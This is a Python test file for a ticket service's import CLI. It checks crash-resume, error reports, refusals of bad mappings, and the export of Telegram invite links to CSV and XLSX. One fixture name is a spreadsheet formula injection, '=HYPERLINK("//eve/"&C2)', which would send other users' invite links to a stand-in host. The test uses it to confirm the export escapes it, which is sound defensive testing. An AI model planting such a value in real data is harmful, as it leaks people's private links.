"""`tickets import` as operators run it."""

import asyncio
import csv
import io
import os
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path

import pytest
from sqlalchemy import make_url

from fixline_testing.beyond_types import present
from fixline_testing.connections import connected
from fixline_testing.forked import ForkedProcess, Forks
from tickets_service.adapters.outbound.moving.workbooks import workbook_rows
from tickets_testing.old_bot import OldBot, old_bot_at, old_bot_with

FORKS = Forks(("tickets_service.__main__",))
PATIENCE = 300
"""Seconds: beside the other tests a process may import for more than a minute."""


@pytest.fixture
async def url(migrated_database: Callable[[str], Awaitable[str]]) -> str:
    return await migrated_database("tickets_service")


async def start(
    url: str, *arguments: str | Path, old: OldBot | None = None, command: str = "import"
) -> ForkedProcess:
    environment = {
        "PATH": os.environ["PATH"],
        "TICKETS_DATABASE_URL": url,
    }
    if old is not None:
        environment["IMPORT_DATABASE_URL"] = old.dsn
    return await FORKS.begin("tickets_service", command, *arguments, env=environment)


async def run(
    url: str, *arguments: str | Path, old: OldBot | None = None, command: str = "import"
) -> tuple[int, str]:
    """Return the exit status, and all that was said."""
    process = await start(url, *arguments, old=old, command=command)
    async with asyncio.timeout(PATIENCE):
        said, complained = await process.communicate()
    return present(process.returncode), said.decode() + complained.decode()


async def counted(url: str, statement: str) -> int:
    async with connected(url) as connection:
        return int(await connection.fetchval(statement))


def csv_rows(path: Path) -> list[Sequence[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def workbook_lines(path: Path) -> list[Sequence[str]]:
    """Return a formula as nothing: it was not worked out."""
    return [row for _, row in workbook_rows(path)]


@pytest.mark.long
async def test_killed_anywhere_it_goes_on_where_it_was(
    url: str, empty_database: Callable[[], Awaitable[str]]
) -> None:
    old = await old_bot_with(await empty_database(), requests=6_000, comments=2, people=50)
    for so_many in (1, 50, 1_500, 4_000):
        process = await start(url, "single-bot", "--source", "oldbot", old=old)
        async with asyncio.timeout(PATIENCE):
            while process.returncode is None:
                if await counted(url, "SELECT count(*) FROM origins WHERE kind <> 'COMMENT'") >= so_many:
                    process.kill()
                    break
                await asyncio.sleep(0.01)
            await process.communicate()
        # Whatever is there is whole.
        assert await counted(url, "SELECT count(*) FROM origins WHERE kind = 'TICKET'") == await counted(
            url, "SELECT count(*) FROM requests"
        )
        assert await counted(url, "SELECT count(*) FROM origins WHERE kind = 'COMMENT'") == await counted(
            url, "SELECT count(*) FROM comments"
        )
    code, said = await run(url, "single-bot", "--source", "oldbot", old=old)
    assert (code, said.splitlines()[-1]) == (0, "imported")
    assert await counted(url, "SELECT count(*) FROM requests WHERE origin = 'oldbot:' || id") == 6_000
    assert await counted(url, "SELECT count(*) FROM comments") == 12_000
    assert await counted(url, "SELECT count(*) FROM users") == 50
    assert await counted(url, "SELECT count(*) FROM history") == 0


async def test_what_it_says(url: str, empty_database: Callable[[], Awaitable[str]], tmp_path: Path) -> None:
    old = await old_bot_at(await empty_database())
    await old.people((1, 501, "ann", "user"))
    await old.request(7, by=1)
    await old.request(8, by=1, status="parked")
    report = tmp_path / "report.csv"
    code, said = await run(url, "single-bot", "--source", "oldbot", "--report", report, old=old)
    assert code == 1
    bad = "state has the word 'parked', of which the mapping does not say what it means"
    assert said.splitlines()[-2:] == [
        f"bad: requests, id 8: {bad}",
        "nothing was written: mend the bad lines, or leave them out with --leave-out-bad",
    ]
    assert report.read_text(encoding="utf-8-sig").splitlines() == [
        "line,kind,old id,outcome,here,words",
        '"users, id 1",PERSON,1,NEW,,',
        '"requests, id 7",TICKET,7,NEW,tickets/7,',
        f'"requests, id 8",TICKET,8,BAD,,"{bad}"',
    ]
    mapping = tmp_path / "mapping.toml"
    mapping.write_text('language = "ru"\n[states]\nParked = "WAITING_VENDOR"\n')
    arguments = ("single-bot", "--source", "oldbot", "--mapping", mapping)
    assert (await run(url, *arguments, "--dry-run", old=old))[1].endswith("nothing was written: a dry run\n")
    code, said = await run(url, *arguments, old=old)
    assert (code, said.splitlines()[-1]) == (0, "imported")
    assert said.splitlines()[3].split() == ["ticket", "2", "0", "0", "0", "0"]
    assert await counted(url, "SELECT count(*) FROM users WHERE language = 'ru'") == 1


async def test_what_it_refuses(
    url: str, empty_database: Callable[[], Awaitable[str]], tmp_path: Path
) -> None:
    old = await old_bot_at(await empty_database())
    usual = ("single-bot", "--source", "oldbot")

    async def refused(*arguments: str | Path, at: str = url, old: OldBot | None = old) -> str:
        code, said = await run(at, *arguments, old=old)
        assert code != 0
        return said

    assert "IMPORT_DATABASE_URL must be set" in await refused(*usual, old=None)
    assert "import: the old database cannot be reached" in await refused(
        *usual, old=OldBot("postgresql://127.0.0.1:1/x")
    )
    wrong = make_url(url).set(password="wrong").render_as_string(hide_password=False)
    assert "does not answer (password authentication failed" in await refused(*usual, at=wrong)
    gone = make_url(url).set(database="gone").render_as_string(hide_password=False)
    for command in (("migrate", "upgrade"), ("migrate", "current"), ("first-admin", "our_desk_bot")):
        code, said = await run(gone, *command[1:], command=command[0])
        words = 'tickets_service: the database cannot be reached: database "gone" does not exist\n'
        assert (code, said) == (1, words)
    for report in (tmp_path, tmp_path / "none" / "report.csv"):
        assert f"the report {report} cannot be written: " in await refused(*usual, "--report", report)
    assert "the database has no schema yet: run `migrate upgrade`" in await refused(
        *usual, at=await empty_database()
    )
    assert "must say its offset" in await refused(*usual, "--since", "2026-01-01")
    assert "1 to 30 of a to z" in await refused("single-bot", "--source", "Old Bot")
    mapping = tmp_path / "mapping.toml"
    assert "mapping.toml: No such file" in await refused(*usual, "--mapping", mapping)
    mapping.write_text('zone = "Mars"\nencoding = "base64"\n[states]\nparked = "LATER"\n[words]\n')
    said = await refused(*usual, "--mapping", mapping)
    for part in (
        "states.parked: Input should be 'OPEN'",
        "words: Extra inputs",
        "zone: Value error, must be a time zone",
        "encoding: Value error, must be an encoding",
    ):
        assert part in said
    mapping.write_bytes(b"\xff")
    assert "is no TOML" in await refused(*usual, "--mapping", mapping)
    people = tmp_path / "people.csv"
    people.write_text("id;name\n1;Ann\n")
    (tmp_path / "report.csv").symlink_to(people)
    for report in (people, tmp_path / "report.csv"):
        said = await refused("tables", "--source", "crm", "--people", people, "--report", report)
        assert f"would be written over {people}" in said
    assert people.read_text() == "id;name\n1;Ann\n"


@pytest.mark.parametrize(
    ("name", "rows_of", "harmless"), [("links.csv", csv_rows, "'="), ("links.xlsx", workbook_lines, "=")]
)
async def test_links_for_whom_telegram_does_not_know(
    url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
    name: str,
    rows_of: Callable[[Path], list[Sequence[str]]],
    harmless: str,
) -> None:
    old = await old_bot_at(await empty_database())
    # Somebody chose a name that would send the others' links away, were it worked out.
    await old.people(
        (1, 501, "ann", "user"), (2, None, "gus", "agent"), (3, None, '=HYPERLINK("//eve/"&C2)', "user")
    )
    await run(url, "single-bot", "--source", "oldbot", old=old)
    links = tmp_path / name
    codes = ("--source", "oldbot", "--bot", "@our_desk_bot", "--out", links)
    assert await run(url, *codes, command="import-codes") == (
        0,
        f"2 links in {links}, each for one person, once, for 7 days\n",
    )
    [head, line, other] = rows_of(links)
    assert head == ["name", "old id", "link"]
    assert line[:2] == ["gus", "2"]
    assert line[2].startswith("https://t.me/our_desk_bot?start=inv_")
    assert other[0].startswith(f"{harmless}HYPERLINK(")
    assert links.stat().st_mode & 0o077 == 0
    code, said = await run(url, *codes, command="import-codes")
    assert code == 1
    assert "File exists" in said
    links.unlink()
    code, said = await run(await empty_database(), *codes, command="import-codes")
    assert (code, links.exists()) == (1, False)
    assert "has no schema yet" in said
